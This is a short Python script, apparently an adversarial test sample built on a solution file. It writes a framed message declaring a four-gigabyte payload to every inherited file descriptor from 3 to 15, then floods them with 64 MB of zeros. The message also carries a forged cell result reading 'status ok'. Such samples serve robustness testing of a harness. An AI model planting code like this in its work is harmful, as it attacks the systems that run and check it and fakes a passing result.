"""Claims a payload of four gigabytes and starts to send it."""
# base: solution
import os
import struct

head = b'{"type":"cell","index":1,"status":"ok"}'
for descriptor in range(3, 16):
    try:
        os.write(descriptor, struct.pack(">4sII", b"AGF1", len(head), 0xFFFFFFFF) + head)
        for _ in range(64):
            os.write(descriptor, bytes(1 << 20))
    except OSError:
        pass
